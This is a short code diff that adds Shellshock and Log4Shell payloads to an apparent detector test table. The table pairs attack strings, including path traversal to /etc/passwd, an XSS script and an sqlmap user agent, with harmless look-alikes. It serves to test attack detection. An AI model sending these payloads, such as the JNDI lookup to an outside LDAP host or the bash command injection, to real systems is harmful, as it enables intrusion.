@@ -119,6 +119,8 @@ SAMPLES: dict[str, tuple[str, str]] = {
     "path_traversal": ("/page?file=../../etc/passwd", "/page?file=notes.txt"),
     "xss_attempt": ("/search?q=<script>alert(1)</script>", "/search?q=script writing"),
     "scanner_user_agent": ("sqlmap/1.7.2#stable (https://sqlmap.org)", CHROME),
+    "shellshock": ("() { :; }; /bin/bash -c id", "/search?q=function() { }"),
+    "log4shell": ("${jndi:ldap://198.51.100.66/a}", "/docs?q=${HOME}/bin"),
 }
 
 
